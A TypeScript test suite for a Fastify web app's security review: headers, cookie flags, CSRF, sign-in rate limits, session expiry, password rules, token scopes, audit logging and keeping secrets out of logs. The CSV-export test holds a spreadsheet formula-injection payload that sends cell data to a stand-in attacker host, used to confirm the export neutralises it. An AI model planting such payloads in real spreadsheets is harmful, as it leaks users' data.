/**
 * The security review, as checks: security headers, cookie flags, CSRF, the sign-in rate limit,
 * session expiry and sign-out everywhere, password rules, API token scopes on every write route,
 * the audit of every sign-in, and (with a real server process logging at info) that no secret
 * ever reaches the logs.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decide } from '../../scripts/audit-deps.mjs';
import { loadConfig } from '../../src/config';
import { createUser } from '../../src/core/users/create-user';
import { SESSION_HOURS } from '../../src/core/users/sessions';
import { fastArgon2Hasher } from '../../src/platform/password';
import { parseCsv } from '../../src/platform/sheets';
import { READ_ONLY_UNSAFE_ROUTES } from '../../src/server/plugins/auth';
import { headers, signInAs, testApp } from '../support/app';
import { describeEachDatabase } from '../support/databases';
import { fixedClock, PASSWORD, SYSTEM, sampleCommitment, seedBasics } from '../support/fixtures';
import { freePort, startServer, stopServer } from '../support/server-process';

const cspDirective = (csp: string, name: string) =>
  new RegExp(`(?:^|;)\\s*${name} ([^;]*)`).exec(csp)?.[1]?.trim() ?? null;

describeEachDatabase('security review', (t) => {
  let app: FastifyInstance;
  /** Minutes the clock has been moved forward (session expiry). */
  let skewMinutes = 0;
  const clock = { now: () => new Date(Date.now() + skewMinutes * 60_000) };
  const auditTail = async (n = 1) => t().store.audit.recent(n);

  beforeAll(async () => {
    await seedBasics(t().store);
    app = (await testApp(t(), { clock })).app;
  });
  afterAll(() => app?.close());

  const signIn = (
    email: string,
    password: string,
    remoteAddress = `10.20.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}`,
  ) => app.inject({ method: 'POST', url: '/api/auth/sign-in', remoteAddress, payload: { email, password } });

  it('security headers: a CSP without inline script, nosniff, no framing, no referrer, no caching of API answers', async () => {
    for (const url of [
      '/api/health',
      '/api/commitments',
      '/api/no-such-route',
      '/',
      '/commitments',
      '/docs/json',
    ]) {
      const r = await app.inject({ method: 'GET', url });
      const csp = String(r.headers['content-security-policy'] ?? '');
      expect(cspDirective(csp, 'default-src'), `${url}: ${csp}`).toBe("'self'");
      expect(cspDirective(csp, 'script-src'), url).toBe("'self'");
      expect(cspDirective(csp, 'script-src-attr'), url).toBe("'none'");
      expect(cspDirective(csp, 'object-src'), url).toBe("'none'");
      expect(cspDirective(csp, 'frame-ancestors'), url).toBe("'none'");
      expect(r.headers['x-content-type-options'], url).toBe('nosniff');
      expect(r.headers['x-frame-options'], url).toBe('DENY');
      expect(r.headers['referrer-policy'], url).toBe('no-referrer');
      expect(r.headers['x-powered-by'], url).toBeUndefined();
      // loopback over plain http: no HSTS (see the next test for https)
      expect(r.headers['strict-transport-security'], url).toBeUndefined();
      if (url.startsWith('/api/')) expect(r.headers['cache-control'], url).toBe('no-store');
    }
    // even an answer the router gives before any hook runs (a malformed URL)
    const bad = await app.inject({ method: 'GET', url: '/api/commitments/%ZZ' });
    expect(bad.statusCode).toBe(400);
    expect(bad.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(bad.headers['x-content-type-options']).toBe('nosniff');
    expect(cspDirective(String(bad.headers['content-security-policy']), 'frame-ancestors')).toBe("'none'");
  });

  it('served over https (secure cookies): HSTS for a year, and the session cookie is Secure', async () => {
    const secure = (await testApp(t(), { config: { ...loadConfig({ HOST: '0.0.0.0' }), loadDemo: false } }))
      .app;
    try {
      const h = await secure.inject({ method: 'GET', url: '/api/health' });
      expect(h.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
      const r = await secure.inject({
        method: 'POST',
        url: '/api/auth/sign-in',
        remoteAddress: '10.30.0.1',
        payload: { email: 'planner@test.invalid', password: PASSWORD },
      });
      expect(r.statusCode).toBe(200);
      expect(String(r.headers['set-cookie'])).toMatch(/; Secure/);
    } finally {
      await secure.close();
    }
  });

  it('cookie flags: HttpOnly, SameSite=Strict, Path=/, Max-Age of the session; not Secure on loopback http; cleared alike on sign-out', async () => {
    const r = await signIn('fr@test.invalid', PASSWORD);
    expect(r.statusCode).toBe(200);
    const cookie = String(r.headers['set-cookie']);
    expect(cookie).toMatch(/^guarantor_session=[A-Za-z0-9_-]{43};/);
    expect(cookie).toContain('HttpOnly');
    expect(cookie).toContain('SameSite=Strict');
    expect(cookie).toContain('Path=/');
    expect(cookie).toContain(`Max-Age=${SESSION_HOURS * 3600}`);
    expect(cookie).not.toContain('Secure');
    // the CSRF token travels in the body, never in a cookie a script could read
    expect(r.json().csrfToken).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const session = { cookie: cookie.split(';')[0] ?? '', csrf: r.json().csrfToken as string };
    const out = await app.inject({ method: 'POST', url: '/api/auth/sign-out', headers: headers(session) });
    expect(out.statusCode).toBe(204);
    const cleared = String(out.headers['set-cookie']);
    expect(cleared).toMatch(/^guarantor_session=;/);
    expect(cleared).toContain('HttpOnly');
    expect(cleared).toContain('SameSite=Strict');
  });

  it('CSRF: a cookie-authenticated write without the token, with a wrong one or with another session’s is refused and stores nothing', async () => {
    const gb = await signInAs(app, 'gb');
    const other = await signInAs(app, 'secretariat');
    const before = await t().store.audit.head();
    for (const [what, extra] of [
      ['no token', {}],
      ['a wrong token', { 'x-csrf-token': 'x'.repeat(43) }],
      ['another session’s token', { 'x-csrf-token': other.csrf }],
      ['an empty token', { 'x-csrf-token': '' }],
    ] as const) {
      const r = await app.inject({
        method: 'POST',
        url: '/api/commitments',
        headers: { cookie: gb.cookie, ...extra },
        payload: sampleCommitment({ ref: 'CSRF-SEC' }),
      });
      expect(r.statusCode, what).toBe(403);
      expect(r.json().code, what).toBe('forbidden');
    }
    expect(await t().store.audit.head()).toEqual(before);
    // reads need no token; the same write with it goes through
    expect(
      (await app.inject({ method: 'GET', url: '/api/auth/me', headers: { cookie: gb.cookie } })).statusCode,
    ).toBe(200);
    const ok = await app.inject({
      method: 'POST',
      url: '/api/commitments',
      headers: headers(gb),
      payload: sampleCommitment({ ref: 'CSRF-SEC' }),
    });
    expect(ok.statusCode).toBe(201);
  });

  it('rate limit: 10 sign-in attempts a minute per address, then 429 with Retry-After; X-Forwarded-For does not reset it', async () => {
    const codes: number[] = [];
    let last: Awaited<ReturnType<typeof signIn>> | undefined;
    for (let i = 0; i < 13; i++) {
      last = await app.inject({
        method: 'POST',
        url: '/api/auth/sign-in',
        remoteAddress: '10.40.0.1',
        headers: { 'x-forwarded-for': `192.0.2.${i}` },
        payload: { email: 'monitor@test.invalid', password: 'not the password at all' },
      });
      codes.push(last.statusCode);
    }
    expect(codes.slice(0, 10)).toEqual(Array(10).fill(401));
    expect(codes.slice(10)).toEqual([429, 429, 429]);
    expect(last?.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(Number(last?.headers['retry-after'])).toBeGreaterThan(0);
    // another address is not held back by this one
    expect((await signIn('monitor@test.invalid', PASSWORD, '10.40.0.2')).statusCode).toBe(200);
  });

  it(`session expiry: a session ends ${SESSION_HOURS} hours after sign-in; an expired one reads as anonymous and may not write`, async () => {
    const s = await signInAs(app, 'commission');
    const me = () => app.inject({ method: 'GET', url: '/api/auth/me', headers: headers(s) });
    try {
      skewMinutes = SESSION_HOURS * 60 - 1;
      expect((await me()).json().user?.role).toBe('commission');
      skewMinutes = SESSION_HOURS * 60 + 1;
      expect((await me()).json()).toEqual({ user: null, csrfToken: null });
      const write = await app.inject({
        method: 'POST',
        url: '/api/determinations',
        headers: headers(s),
        payload: { trigger: 'renewed_attack', determinedAt: '2026-03-10T08:00:00Z' },
      });
      expect(write.statusCode).toBe(401);
    } finally {
      skewMinutes = 0;
    }
  });

  it('sign-out everywhere ends every session of the user (audited), leaves other users and API tokens alone, and needs a session', async () => {
    const a = await signInAs(app, 'ua');
    const b = await signInAs(app, 'ua');
    const someoneElse = await signInAs(app, 'observer');
    const tok = await app.inject({
      method: 'POST',
      url: '/api/auth/tokens',
      headers: headers(a),
      payload: { name: 'ua script', scope: 'write' },
    });
    const bearer = { authorization: `Bearer ${tok.json().token}` };
    expect(
      (await app.inject({ method: 'POST', url: '/api/auth/sign-out-everywhere', headers: bearer }))
        .statusCode,
    ).toBe(403);
    expect((await app.inject({ method: 'POST', url: '/api/auth/sign-out-everywhere' })).statusCode).toBe(401);
    // a cookie-authenticated call, so it needs the CSRF token like any write
    expect(
      (
        await app.inject({
          method: 'POST',
          url: '/api/auth/sign-out-everywhere',
          headers: { cookie: a.cookie },
        })
      ).statusCode,
    ).toBe(403);
    const r = await app.inject({ method: 'POST', url: '/api/auth/sign-out-everywhere', headers: headers(b) });
    expect(r.statusCode).toBe(204);
    expect(String(r.headers['set-cookie'])).toMatch(/^guarantor_session=;/);
    const [entry] = await auditTail();
    expect(entry).toMatchObject({ action: 'auth.sign_out_everywhere', entity: 'user' });
    const whoAmI = async (h: Record<string, string>) =>
      (await app.inject({ method: 'GET', url: '/api/auth/me', headers: h })).json().user?.email ?? null;
    expect(await whoAmI(headers(a))).toBeNull();
    expect(await whoAmI(headers(b))).toBeNull();
    expect(await whoAmI(headers(someoneElse))).toBe('observer@test.invalid');
    expect(await whoAmI(bearer)).toBe('ua@test.invalid');
    // the old query form does the same
    const c = await signInAs(app, 'ua');
    const d = await signInAs(app, 'ua');
    expect(
      (await app.inject({ method: 'POST', url: '/api/auth/sign-out?everywhere=true', headers: headers(c) }))
        .statusCode,
    ).toBe(204);
    expect(await whoAmI(headers(d))).toBeNull();
  });

  it('password rules: at least 12 characters, not the email or the name, not repetitive, not a common password', async () => {
    const s = await signInAs(app, 'secretariat');
    const add = (email: string, password: string, name = 'New user') =>
      app.inject({
        method: 'POST',
        url: '/api/users',
        headers: headers(s),
        payload: { email, name, role: 'observer', password },
      });
    const before = await t().store.audit.head();
    for (const [password, email, name] of [
      ['short pass!', 'p1@test.invalid', undefined],
      ['long.address@test.invalid', 'long.address@test.invalid', undefined],
      ['LONG.ADDRESS@test.invalid', 'long.address@test.invalid', undefined],
      ['Password1234', 'p2@test.invalid', undefined],
      ['qwerty 123456', 'p3@test.invalid', undefined],
      ['SlavaUkraini!', 'p4@test.invalid', undefined],
      ['aaaaaaaaaaaaaaaa', 'p5@test.invalid', undefined],
      ['abababababababab', 'p6@test.invalid', undefined],
      ['Olena Kovalenko', 'p7@test.invalid', 'Olena Kovalenko'],
    ] as const) {
      const r = await add(email, password, name);
      expect([400, 422], `${password}: ${r.body}`).toContain(r.statusCode);
      expect(
        r.json().errors.some((e: { path: string }) => e.path === 'password' || e.path === 'body.password'),
        password,
      ).toBe(true);
    }
    expect(await t().store.audit.head()).toEqual(before);
    expect((await add('p8@test.invalid', 'seven long words make a fine passphrase')).statusCode).toBe(201);
    // the same rules hold for the CLI and the demo loader, which call core directly
    await expect(
      createUser(
        {
          input: { email: 'cli@test.invalid', name: 'CLI', role: 'observer', password: 'password1234' },
          actor: SYSTEM,
        },
        { store: t().store, clock: fixedClock(), hasher: fastArgon2Hasher },
      ),
    ).rejects.toMatchObject({ code: 'validation', issues: [{ path: 'password' }] });
  });

  it('API token scopes: a read token is refused by every write route (403) and writes nothing; a write token writes; no token makes tokens', async () => {
    const gb = await signInAs(app, 'gb');
    const mint = async (scope: 'read' | 'write') =>
      (
        await app.inject({
          method: 'POST',
          url: '/api/auth/tokens',
          headers: headers(gb),
          payload: { name: `${scope} script`, scope },
        })
      ).json().token as string;
    const read = { authorization: `Bearer ${await mint('read')}` };
    const write = { authorization: `Bearer ${await mint('write')}` };
    const routes = (app as unknown as { apiRoutes: string[] }).apiRoutes.filter((r) => !r.startsWith('GET '));
    expect(routes.length).toBeGreaterThan(35);
    const before = await t().store.audit.head();
    let refused = 0;
    for (const route of routes) {
      const [method, pattern] = route.split(' ') as [string, string];
      const url = pattern.replace(/:[A-Za-z]+/g, () => randomUUID());
      const r = await app.inject({ method: method as 'POST', url, headers: read, payload: {} });
      if (READ_ONLY_UNSAFE_ROUTES.has(route)) {
        expect(r.statusCode, `${route} (writes nothing)`).toBeLessThan(500);
        continue;
      }
      expect(r.statusCode, `${route}: ${r.body}`).toBe(403);
      expect(r.json().detail, route).toBe('this API token may only read');
      refused++;
    }
    expect(refused).toBe(routes.length - READ_ONLY_UNSAFE_ROUTES.size);
    // a simulation or an analysis by a read token writes nothing to the record either
    expect(await t().store.audit.head()).toEqual(before);
    // the read token still reads
    expect((await app.inject({ method: 'GET', url: '/api/commitments', headers: read })).statusCode).toBe(
      200,
    );
    const created = await app.inject({
      method: 'POST',
      url: '/api/commitments',
      headers: write,
      payload: sampleCommitment({ ref: 'TOKEN-WRITE' }),
    });
    expect(created.statusCode).toBe(201);
    const again = await app.inject({
      method: 'POST',
      url: '/api/auth/tokens',
      headers: write,
      payload: { name: 'from a token', scope: 'write' },
    });
    expect(again.statusCode).toBe(403);
  });

  it('CSV export: text a spreadsheet would run as a formula is marked as text, and reads back as stored', async () => {
    const s = await signInAs(app, 'secretariat');
    const title = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")';
    const created = await app.inject({
      method: 'POST',
      url: '/api/commitments',
      headers: headers(s),
      payload: sampleCommitment({ ref: 'CSV-FORMULA', title }),
    });
    expect(created.statusCode).toBe(201);
    const csv = await app.inject({
      method: 'GET',
      url: '/api/commitments/export?format=csv&q=HYPERLINK',
      headers: headers(s),
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""Click"")"`);
    expect(csv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const row = parseCsv(csv.body).find((r) => r.ref === 'CSV-FORMULA');
    expect(row?.title).toBe(title);
  });

  it('audit: every sign-in and every failed one is recorded with the address, never with the password', async () => {
    const email = 'disabled@test.invalid';
    await t().store.users.insert({
      id: randomUUID(),
      email,
      name: 'Disabled',
      role: 'observer',
      partyCode: null,
      passwordHash: await fastArgon2Hasher.hash(PASSWORD),
      disabled: true,
      createdAt: new Date().toISOString(),
    });
    const user = (await t().store.users.byEmail('planner@test.invalid'))!;
    const cases = [
      ['planner@test.invalid', PASSWORD, 'auth.sign_in', user.id],
      ['planner@test.invalid', 'a wrong password 1', 'auth.sign_in_failed', user.id],
      ['nobody@test.invalid', 'a wrong password 2', 'auth.sign_in_failed', 'nobody@test.invalid'],
      [email, PASSWORD, 'auth.sign_in_failed', (await t().store.users.byEmail(email))!.id],
    ] as const;
    for (const [i, [who, password, action, entityId]] of cases.entries()) {
      const address = `10.50.0.${i + 1}`;
      const r = await signIn(who, password, address);
      expect(r.statusCode, who).toBe(action === 'auth.sign_in' ? 200 : 401);
      const [entry] = await auditTail();
      expect(entry, `${who} ${action}`).toMatchObject({
        action,
        entity: 'user',
        entityId,
        after: { ip: address },
      });
      expect(JSON.stringify(entry)).not.toContain(password);
    }
    // the answer does not tell which part was wrong
    const a = await signIn('planner@test.invalid', 'a wrong password 3');
    const b = await signIn('nobody@test.invalid', 'a wrong password 3');
    expect(a.json().detail).toBe(b.json().detail);
  });
});

describe('secrets never reach the logs', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'guarantor-logs-'));
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it('a server logging at info, through sign-ins, tokens, user creation and bad requests, writes no password, cookie, CSRF token, API token or CLI secret', async () => {
    const server = await startServer(dataDir, await freePort(), { GUARANTOR_LOG: 'info' });
    const secrets: string[] = [server.auth.authorization.replace(/^Local /, '')];
    try {
      const api = async (method: string, path: string, body?: unknown, h: Record<string, string> = {}) => {
        const r = await fetch(`${server.url}${path}`, {
          method,
          headers: { ...(body !== undefined ? { 'content-type': 'application/json' } : {}), ...h },
          ...(body !== undefined ? { body: typeof body === 'string' ? body : JSON.stringify(body) } : {}),
        });
        return {
          status: r.status,
          json: (await r.json().catch(() => null)) as Record<string, unknown> | null,
          cookies: r.headers.getSetCookie(),
        };
      };
      const admin = server.auth;
      for (const [code, name] of [
        ['GB', 'United Kingdom'],
        ['UA', 'Ukraine'],
      ])
        expect((await api('PUT', `/api/parties/${code}`, { name, kind: 'state' }, admin)).status).toBe(200);
      const passwords = ['first logging passphrase 2026', 'second logging passphrase 2026'];
      secrets.push(...passwords);
      for (const [i, password] of passwords.entries())
        expect(
          (
            await api(
              'POST',
              '/api/users',
              {
                email: `log${i}@test.invalid`,
                name: `Log ${i}`,
                role: 'delegation',
                partyCode: 'GB',
                password,
              },
              admin,
            )
          ).status,
        ).toBe(201);
      const bad = 'shortpw!';
      secrets.push(bad);
      expect(
        (
          await api(
            'POST',
            '/api/users',
            { email: 'log9@test.invalid', name: 'L', role: 'observer', password: bad },
            admin,
          )
        ).status,
      ).toBe(400);
      const signedIn = await api('POST', '/api/auth/sign-in', {
        email: 'log0@test.invalid',
        password: passwords[0],
      });
      expect(signedIn.status).toBe(200);
      const cookieValue = (signedIn.cookies[0] ?? '').split(';')[0]?.split('=')[1] ?? '';
      const csrf = String(signedIn.json?.csrfToken);
      secrets.push(cookieValue, csrf);
      const session = { cookie: `guarantor_session=${cookieValue}`, 'x-csrf-token': csrf };
      expect((await api('GET', '/api/auth/me', undefined, session)).status).toBe(200);
      const tok = await api('POST', '/api/auth/tokens', { name: 'logs', scope: 'write' }, session);
      expect(tok.status).toBe(201);
      const token = String(tok.json?.token);
      secrets.push(token);
      const bearer = { authorization: `Bearer ${token}` };
      expect((await api('GET', '/api/commitments', undefined, bearer)).status).toBe(200);
      expect(
        (await api('POST', '/api/commitments', sampleCommitment({ ref: 'LOG-1', terms: {} }), bearer)).status,
      ).toBe(201);
      const wrong = 'the wrong logging passphrase';
      secrets.push(wrong);
      expect(
        (await api('POST', '/api/auth/sign-in', { email: 'log1@test.invalid', password: wrong })).status,
      ).toBe(401);
      expect(
        (await api('POST', '/api/auth/sign-in', `{"email":"log1@test.invalid","password":"${wrong}",}`))
          .status,
      ).toBe(400);
      const forged = 'gt_forged-token-that-must-not-be-logged';
      secrets.push(forged);
      expect(
        (await api('GET', '/api/commitments', undefined, { authorization: `Bearer ${forged}` })).status,
      ).toBe(401);
      expect((await api('POST', '/api/auth/sign-out', undefined, session)).status).toBe(204);
    } finally {
      await stopServer(server);
    }
    const out = server.output();
    // the logger was on: the listening line and pino's JSON lines at info
    expect(out).toContain('is listening on');
    expect(out).toMatch(/"level":30/);
    for (const s of secrets) {
      expect(s.length, 'a secret to look for').toBeGreaterThan(7);
      expect(out.includes(s), `the log holds a secret (${s.slice(0, 6)}…)`).toBe(false);
    }
  }, 180_000);
});

describe('dependency audit (scripts/audit-deps.mjs)', () => {
  const report = (high: number, critical: number) =>
    JSON.stringify({
      auditReportVersion: 2,
      vulnerabilities:
        high + critical
          ? {
              leftpad: {
                name: 'leftpad',
                severity: critical ? 'critical' : 'high',
                via: [{ title: 'Prototype pollution' }],
                fixAvailable: true,
              },
            }
          : {},
      metadata: {
        vulnerabilities: { info: 0, low: 1, moderate: 2, high, critical, total: 3 + high + critical },
        dependencies: { prod: 120, total: 400 },
      },
    });

  it('never fails the build for an unreachable advisory endpoint, and says so plainly', () => {
    const mirror = JSON.stringify({
      message: '405 Method Not Allowed - POST https://registry.npmjs.org/-/npm/v1/security/advisories/bulk',
      statusCode: 405,
      uri: 'https://registry.npmjs.org/-/npm/v1/security/advisories/bulk',
    });
    for (const run of [
      { stdout: mirror, ci: true },
      { stdout: '', stderr: 'npm error network ENOTFOUND', ci: true },
      { stdout: '', timedOut: true, ci: true },
    ]) {
      const v = decide(run);
      expect(v.reachable).toBe(false);
      expect(v.exitCode).toBe(0);
      expect(v.message).toMatch(/could not be reached.*NOT checked/);
    }
  });

  it('fails CI on high or critical findings (and only then), naming the package', () => {
    expect(decide({ stdout: report(0, 0), ci: true })).toMatchObject({ reachable: true, exitCode: 0 });
    expect(decide({ stdout: report(0, 0) }).message).toContain('no high or critical advisories in 120');
    const high = decide({ stdout: report(1, 0), ci: true });
    expect(high.exitCode).toBe(1);
    expect(high.message).toContain('leftpad: Prototype pollution');
    expect(decide({ stdout: report(0, 1), ci: true }).exitCode).toBe(1);
    expect(decide({ stdout: report(1, 0), ci: false }).exitCode).toBe(0);
  });
});
